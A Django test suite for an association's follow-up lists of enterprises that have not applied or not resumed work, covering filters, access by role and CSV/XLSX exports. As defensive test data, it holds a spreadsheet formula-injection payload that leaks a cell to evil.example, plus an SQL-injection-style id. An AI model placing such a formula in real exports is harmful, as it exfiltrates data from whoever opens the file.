"""The follow-up lists behind the progress figures: who has not applied, who is approved and has
not resumed — their rows, their agreement with the progress page, who sees what, and the
downloads.

The association (cast.association, Guangdong) and its members, for a batch open to Guangdong
manufacturing (section C):

    enterprise   county             industry   application          list 1   list 2
    cast.member  440106 Tianhe, GZ  39 (C)     —                     yes
    drafted      440106 Tianhe      39         draft                 yes
    withdrawn    440104 Yuexiu, GZ  18 (C)     withdrawn             yes
    lechang      440281 Lechang, SG 39         —                     yes
    submitted    440104 Yuexiu      13 (C)     submitted
    rejected     440304 Futian, SZ  39         rejected
    approved     440304 Futian      39         approved 3 days ago            yes (2nd)
    approved_old 440106 Tianhe      18         approved 10 days ago           yes (1st)
    resumed      440303 Luohu, SZ   39         resumed
    catering     440106 Tianhe      62 (H)     — (not eligible: industry)
    zhejiang     330106 Xihu, HZ    39         — (not eligible: region; a member all the same)
plus a suspended member and an enterprise that is no member (Tianhe, 39), and the other
association's member with an approved application in its own association's batch.
"""

import csv
import io
from datetime import timedelta
from urllib.parse import unquote

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from associations.models import Membership
from batches import follow_up
from batches.models import Application
from core.models import Role
from tests.factories import (
    ApplicationFactory,
    BatchFactory,
    EnterpriseFactory,
    MembershipFactory,
    UserFactory,
)

S = Application.Status
pytestmark = pytest.mark.django_db

NOT_APPLIED = reverse("follow-up-not-applied")
NOT_RESUMED = reverse("follow-up-not-resumed")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


class World:
    def __init__(self, cast):
        self.cast = cast
        association = cast.association
        self.batch = BatchFactory(association=association, regions=["440000"], industries=["C"])
        now = timezone.now()

        def member(name, region, division, status=Membership.Status.ACTIVE, **fields):
            enterprise = EnterpriseFactory(
                name=name, region_id=region, industry_id=division, **fields
            )
            MembershipFactory(enterprise=enterprise, association=association, status=status)
            return enterprise

        def apply(enterprise, status, decided_days_ago=None, **fields):
            decided = now - timedelta(days=decided_days_ago) if decided_days_ago else None
            return ApplicationFactory(
                batch=self.batch, enterprise=enterprise, status=status, decided_at=decided, **fields
            )

        self.drafted = member("甲草稿电子", "440106", "39", contact_name=HYPERLINK)
        self.withdrawn = member("乙撤回纺织", "440104", "18")
        self.lechang = member("丙乐昌电子", "440281", "39")
        self.submitted = member("丁已交食品", "440104", "13")
        self.rejected = member("戊驳回电子", "440304", "39")
        self.approved = member("己批准电子", "440304", "39")
        self.approved_old = member("庚早批纺织", "440106", "18")
        self.resumed = member("辛复工电子", "440303", "39")
        self.catering = member("壬餐饮", "440106", "62")
        self.zhejiang = member("癸浙江电子", "330106", "39")
        member("子暂停电子", "440106", "39", status=Membership.Status.SUSPENDED)
        EnterpriseFactory(name="丑非会员电子", region_id="440106", industry_id="39")

        apply(self.drafted, S.DRAFT)
        apply(self.withdrawn, S.WITHDRAWN)
        apply(self.submitted, S.SUBMITTED)
        apply(self.rejected, S.REJECTED, decided_days_ago=2)
        self.approval = apply(self.approved, S.APPROVED, decided_days_ago=3)
        self.old_approval = apply(
            self.approved_old,
            S.APPROVED,
            decided_days_ago=10,
            planned_date=timezone.localdate() + timedelta(days=2),
        )
        apply(self.resumed, S.RESUMED, decided_days_ago=5, resumed_on=timezone.localdate())
        elsewhere = BatchFactory(association=cast.other_association, regions=["330000"])
        ApplicationFactory(
            batch=elsewhere, enterprise=cast.other_member, status=S.APPROVED, decided_at=now
        )


@pytest.fixture
def world(cast) -> World:
    return World(cast)


@pytest.fixture
def web(client):
    """A browser whose person reads English."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def rows(response) -> list[str]:
    """The names of the enterprises the page lists, in its order."""
    return [enterprise.name for enterprise in response.context["page"]]


def count(response) -> int:
    return response.context["page"].paginator.count


def as_user(client, user):
    client.force_login(user)
    return client


# --- who is on the lists ------------------------------------------------------------------------


def test_not_applied_lists_eligible_enterprises_without_an_application_handed_in(cast, world, web):
    response = as_user(web, cast.staff).get(NOT_APPLIED, {"batch": world.batch.pk})

    assert response.status_code == 200
    # By region (Guangzhou's Yuexiu and Tianhe, then Shaoguan's Lechang), then by name.
    assert set(rows(response)) == {
        cast.member.name,
        world.drafted.name,
        world.withdrawn.name,
        world.lechang.name,
    }
    assert rows(response)[-1] == world.lechang.name
    statuses = {e.name: e.last_status for e in response.context["page"]}
    assert statuses[world.drafted.name] == S.DRAFT
    assert statuses[world.withdrawn.name] == S.WITHDRAWN
    assert statuses[cast.member.name] is None
    html = response.content.decode()
    assert "Draft, not handed in" in html and "No application" in html


def test_not_applied_for_the_association_counts_every_active_member_and_all_its_batches(
    cast, world, web
):
    """All the association's batches: every active member is eligible, wherever it is and
    whatever it does (the catering member and the Zhejiang one too)."""
    response = as_user(web, cast.staff).get(NOT_APPLIED, {"association": cast.association.pk})

    assert set(rows(response)) == {
        cast.member.name,
        world.drafted.name,
        world.withdrawn.name,
        world.lechang.name,
        world.catering.name,
        world.zhejiang.name,
    }


def test_not_resumed_lists_approved_enterprises_oldest_approval_first(cast, world, web):
    response = as_user(web, cast.staff).get(NOT_RESUMED, {"batch": world.batch.pk})

    assert rows(response) == [world.approved_old.name, world.approved.name]
    first = response.context["page"][0]
    assert first.approved_on == timezone.localdate() - timedelta(days=10)
    assert first.days_waited == 10
    assert first.planned_date == timezone.localdate() + timedelta(days=2)
    html = response.content.decode()
    assert reverse("application-detail", args=[world.old_approval.pk]) in html


def test_an_enterprise_resumed_in_one_batch_is_not_chased_for_another(cast, world, web):
    """Enterprises, not applications: resumed in one of the association's batches, it has
    resumed, whatever another batch says; that other batch's own list still names it."""
    second = BatchFactory(association=cast.association, regions=["440000"], industries=["C"])
    ApplicationFactory(
        batch=second, enterprise=world.resumed, status=S.APPROVED, decided_at=timezone.now()
    )
    staff = as_user(web, cast.staff)

    association = staff.get(NOT_RESUMED, {"association": cast.association.pk})
    assert world.resumed.name not in rows(association)
    assert rows(staff.get(NOT_RESUMED, {"batch": second.pk})) == [world.resumed.name]


def test_lists_narrow_to_a_region_subtree_and_an_industry(cast, world, web):
    staff = as_user(web, cast.staff)
    batch = world.batch.pk

    assert rows(staff.get(NOT_APPLIED, {"batch": batch, "region": "440200"})) == [
        world.lechang.name
    ]
    assert set(rows(staff.get(NOT_APPLIED, {"batch": batch, "region": "440100"}))) == {
        cast.member.name,
        world.drafted.name,
        world.withdrawn.name,
    }
    assert set(rows(staff.get(NOT_APPLIED, {"batch": batch, "industry": "18"}))) == {
        world.withdrawn.name
    }
    assert len(rows(staff.get(NOT_APPLIED, {"batch": batch, "industry": "C"}))) == 4
    assert rows(staff.get(NOT_APPLIED, {"batch": batch, "industry": "H"})) == []
    assert rows(staff.get(NOT_RESUMED, {"batch": batch, "region": "440300"})) == [
        world.approved.name
    ]
    # People pick the region by name on the page: the same list.
    assert rows(staff.get(NOT_APPLIED, {"batch": batch, "region": "乐昌市"})) == [
        world.lechang.name
    ]


def test_an_industry_section_includes_a_member_registered_with_the_section_itself(cast, web):
    """As the progress page's row for the section counts it (`figures.section_of`)."""
    with_section = EnterpriseFactory(name="寅按门类登记", region_id="440106", industry_id="C")
    MembershipFactory(enterprise=with_section, association=cast.association)
    params = {"association": cast.association.pk, "industry": "C"}

    response = as_user(web, cast.staff).get(NOT_APPLIED, params)

    assert set(rows(response)) == {with_section.name, cast.member.name}


# --- the lists agree with the progress page -----------------------------------------------------


@pytest.mark.parametrize(
    "view", [{}, {"within": "440000"}, {"within": "440100"}, {"by": "industry"}]
)
def test_each_progress_row_links_to_a_list_as_long_as_its_figures_say(cast, world, web, view):
    staff = as_user(web, cast.staff)
    progress = staff.get(reverse("batch-progress", args=[world.batch.pk]), view)
    figures = progress.context["figures"]
    html = progress.content.decode().replace("&amp;", "&")

    for row in [*figures["rows"], figures["totals"]]:
        not_applied = count(staff.get(row["not_applied_url"]))
        assert not_applied == row["eligible"] - row["applied"] == row["not_applied"]
        not_resumed = count(staff.get(row["not_resumed_url"]))
        assert not_resumed == row["approved"] - row["resumed"] == row["not_resumed"]
        if not_applied:
            assert row["not_applied_url"] in html
    assert figures["totals"]["not_applied"] == (4 if view.get("within") != "440100" else 3)


def test_association_progress_rows_link_to_lists_of_their_length(cast, world, web):
    staff = as_user(web, cast.staff)
    progress = staff.get(reverse("association-progress"), {"within": "440000"})
    figures = progress.context["figures"]

    for row in [*figures["rows"], figures["totals"]]:
        assert count(staff.get(row["not_applied_url"])) == row["eligible"] - row["applied"]
        assert count(staff.get(row["not_resumed_url"])) == row["approved"] - row["resumed"]
    assert f"association={cast.association.pk}" in figures["totals"]["not_applied_url"]


def test_an_applicant_that_left_the_association_is_counted_once_in_the_link(cast, world, web):
    """Applied, then no longer a member: counted in `applied` but not in `eligible`, so the
    row's link says how many have not applied (and the list is that long), not eligible −
    applied."""
    Membership.objects.filter(enterprise=world.submitted).update(status=Membership.Status.LEFT)
    staff = as_user(web, cast.staff)
    totals = staff.get(reverse("batch-progress", args=[world.batch.pk])).context["figures"][
        "totals"
    ]

    assert totals["eligible"] - totals["applied"] == 3
    assert totals["not_applied"] == 4
    assert count(staff.get(totals["not_applied_url"])) == 4


# --- who sees what ------------------------------------------------------------------------------


def test_staff_of_another_association_find_nothing_of_it(cast, world, web):
    other = as_user(web, cast.other_staff)
    for url in (NOT_APPLIED, NOT_RESUMED):
        assert other.get(url, {"batch": world.batch.pk}).status_code == 404
        assert other.get(url, {"association": cast.association.pk}).status_code == 404
        # Their own association and another's batch: still nothing.
        params = {"association": cast.other_association.pk, "batch": world.batch.pk}
        assert other.get(url, params).status_code == 404
        own = other.get(url)
        names = set(rows(own))
        assert not names & {cast.member.name, world.approved.name, world.lechang.name}
    for name in ("not-applied", "not-resumed"):
        for extension in ("csv", "xlsx"):
            url = reverse(f"follow-up-{name}-{extension}")
            assert other.get(url, {"batch": world.batch.pk}).status_code == 404


def test_an_official_sees_the_jurisdiction_only_and_no_contacts(cast, world, web):
    official = as_user(web, cast.official)  # Guangdong
    response = official.get(NOT_APPLIED, {"association": cast.association.pk})

    assert response.status_code == 200
    assert world.zhejiang.name not in rows(response)
    assert world.lechang.name in rows(response)
    html = response.content.decode()
    assert "Contact phone" not in html and "13800138000" not in html
    assert "Only enterprises inside" in html


def test_an_official_of_another_province_finds_nothing(cast, world, web):
    other = as_user(web, cast.other_official)
    assert other.get(NOT_APPLIED, {"batch": world.batch.pk}).status_code == 404
    assert other.get(NOT_RESUMED, {"association": cast.association.pk}).status_code == 404


def test_enterprise_users_may_not_open_the_lists(cast, world, web):
    user = as_user(web, cast.enterprise_user)
    for name in ("not-applied", "not-resumed"):
        for suffix in ("", "-csv", "-xlsx"):
            response = user.get(reverse(f"follow-up-{name}{suffix}"), {"batch": world.batch.pk})
            assert response.status_code == 403


def test_staff_see_contacts_and_member_pages(cast, world, web):
    response = as_user(web, cast.staff).get(NOT_APPLIED, {"batch": world.batch.pk})
    html = response.content.decode()
    assert "Contact phone" in html and "138 0013 8000" in html
    membership = Membership.objects.get(enterprise=world.lechang, association=cast.association)
    assert reverse("membership-detail", args=[membership.pk]) in html


def test_a_user_with_no_association_is_told_so(web):
    staff = UserFactory(role=Role.STAFF)
    response = as_user(web, staff).get(NOT_APPLIED)
    assert response.status_code == 200
    assert "There is no association whose progress you may see." in response.content.decode()


def test_a_garbled_id_is_not_found(cast, world, web):
    assert as_user(web, cast.staff).get(NOT_APPLIED, {"batch": "1 OR 1=1"}).status_code == 404


# --- downloads ----------------------------------------------------------------------------------


def read_xlsx(response) -> list[list]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def read_csv(response) -> tuple[str, list[list[str]]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_starts_with_a_bom_and_a_header_in_the_pages_language(cast, world, client):
    staff = as_user(client, cast.staff)  # Chinese, the default
    response = staff.get(reverse("follow-up-not-applied-csv"), {"batch": world.batch.pk})

    text, table = read_csv(response)
    assert text.startswith("\ufeff")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert table[0][:2] == ["企业", "统一社会信用代码"]
    assert table[0][-2:] == ["联系人", "联系电话"]
    page = staff.get(NOT_APPLIED, {"batch": world.batch.pk})
    assert [row[0] for row in table[1:]] == rows(page)
    # What a member typed as a formula stays text.
    drafted = next(row for row in table if row[0] == world.drafted.name)
    assert drafted[-2] == "'" + HYPERLINK


def test_csv_header_is_english_when_the_page_is(cast, world, web):
    response = as_user(web, cast.staff).get(
        reverse("follow-up-not-resumed-csv"), {"batch": world.batch.pk}
    )
    _text, table = read_csv(response)
    assert table[0][0] == "Enterprise" and "Approved on" in table[0]
    assert [row[0] for row in table[1:]] == [world.approved_old.name, world.approved.name]


def test_xlsx_rows_equal_the_list_and_a_formula_stays_text(cast, world, web):
    staff = as_user(web, cast.staff)
    response = staff.get(reverse("follow-up-not-applied-xlsx"), {"batch": world.batch.pk})

    assert response.status_code == 200
    table = read_xlsx(response)
    assert table[0][0] == "Enterprise" and table[0][-1] == "Contact phone"
    assert [row[0] for row in table[1:]] == rows(staff.get(NOT_APPLIED, {"batch": world.batch.pk}))
    drafted = next(row for row in table if row[0] == world.drafted.name)
    assert drafted[-2] == HYPERLINK  # a string cell, not a formula
    lechang = next(row for row in table if row[0] == world.lechang.name)
    assert lechang[2:4] == ["440281", "Lechang, Shaoguan, Guangdong"]


def test_xlsx_of_not_resumed_carries_the_approval_and_planned_dates(cast, world, web):
    response = as_user(web, cast.staff).get(
        reverse("follow-up-not-resumed-xlsx"), {"batch": world.batch.pk}
    )
    header, first, *_rest = read_xlsx(response)
    approved_on = first[header.index("Approved on")]
    planned = first[header.index("Planned resumption date")]
    assert approved_on.date() == timezone.localdate() - timedelta(days=10)
    assert planned.date() == timezone.localdate() + timedelta(days=2)
    assert first[header.index("Days since approval")] == 10


@pytest.mark.parametrize(
    ("role", "status", "sees_phone"),
    [
        ("staff", 200, True),
        ("manager", 200, True),
        ("partner", 200, True),  # the association's own system, as the enterprise API
        ("admin", 200, True),
        ("official", 200, False),
        ("other_official", 404, None),
        ("other_staff", 404, None),
        ("enterprise_user", 403, None),
        ("outsider", 403, None),
    ],
)
def test_each_role_downloads_what_it_may_see(cast, world, web, role, status, sees_phone):
    user = as_user(web, getattr(cast, role))
    response = user.get(reverse("follow-up-not-applied-xlsx"), {"association": cast.association.pk})

    assert response.status_code == status
    if status != 200:
        return
    table = read_xlsx(response)
    assert ("Contact phone" in table[0]) is sees_phone
    names = {row[0] for row in table[1:]}
    page = user.get(NOT_APPLIED, {"association": cast.association.pk})
    assert names == set(rows(page))
    assert (world.zhejiang.name in names) is (role != "official")


def test_downloads_are_named_after_the_list_the_region_and_the_day(cast, world, client):
    response = as_user(client, cast.staff).get(
        reverse("follow-up-not-applied-xlsx"), {"batch": world.batch.pk, "region": "440281"}
    )
    today = timezone.localdate().isoformat()
    disposition = response["Content-Disposition"]

    assert f'filename="not-applied-440281-{today}.xlsx"' in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == f"未申请企业-乐昌市-{today}.xlsx"
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_a_long_list_says_the_downloads_are_capped_and_they_are(cast, world, web, monkeypatch):
    monkeypatch.setattr(follow_up, "EXPORT_LIMIT", 2)
    staff = as_user(web, cast.staff)

    page = staff.get(NOT_APPLIED, {"batch": world.batch.pk})
    assert count(page) == 4
    assert 'data-testid="export-capped"' in page.content.decode()
    table = read_xlsx(staff.get(reverse("follow-up-not-applied-xlsx"), {"batch": world.batch.pk}))
    assert [row[0] for row in table[1:]] == rows(page)[:2]
    monkeypatch.setattr(follow_up, "EXPORT_LIMIT", 20_000)
    assert 'data-testid="export-capped"' not in staff.get(NOT_APPLIED).content.decode()


def test_the_download_links_keep_the_filters_as_codes(cast, world, web):
    response = as_user(web, cast.staff).get(
        NOT_APPLIED, {"batch": world.batch.pk, "region": "乐昌市", "industry": "39"}
    )
    html = response.content.decode().replace("&amp;", "&")
    expected = f"association={cast.association.pk}&batch={world.batch.pk}&region=440281&industry=39"
    assert f"{reverse('follow-up-not-applied-csv')}?{expected}" in html
    assert f"{reverse('follow-up-not-applied-xlsx')}?{expected}" in html


def test_a_page_runs_the_same_queries_for_4_or_40_enterprises(cast, world, web):
    staff = as_user(web, cast.staff)

    def queries(url) -> int:
        with CaptureQueriesContext(connection) as captured:
            assert staff.get(url, {"batch": world.batch.pk}).status_code == 200
        return len(captured.captured_queries)

    staff.get(NOT_APPLIED, {"batch": world.batch.pk})  # the region index, read once
    few = {url: queries(url) for url in (NOT_APPLIED, NOT_RESUMED)}
    for index in range(36):
        enterprise = EnterpriseFactory(region_id=("440106", "440281", "440304")[index % 3])
        MembershipFactory(enterprise=enterprise, association=cast.association)
        if index % 2:
            ApplicationFactory(
                batch=world.batch,
                enterprise=enterprise,
                status=S.APPROVED,
                decided_at=timezone.now(),
            )
    assert count(staff.get(NOT_APPLIED, {"batch": world.batch.pk})) == 22
    assert {url: queries(url) for url in (NOT_APPLIED, NOT_RESUMED)} == few


# --- the pages as a browser gets them -------------------------------------------------------------


def test_the_pages_carry_no_inline_code_and_no_id_twice(cast, world, web):
    """Checked here as tests/core/test_no_inline_code.py checks the matrices' pages."""
    from tests.core.test_no_inline_code import duplicate_ids, inline_code

    staff = as_user(web, cast.staff)
    for url, params in (
        (NOT_APPLIED, {"batch": world.batch.pk}),
        (NOT_RESUMED, {"association": cast.association.pk, "region": "440000"}),
        (reverse("batch-progress", args=[world.batch.pk]), {"within": "440000"}),
    ):
        html = staff.get(url, params).content.decode()
        assert not inline_code(html).found, url
        assert not duplicate_ids(html), url
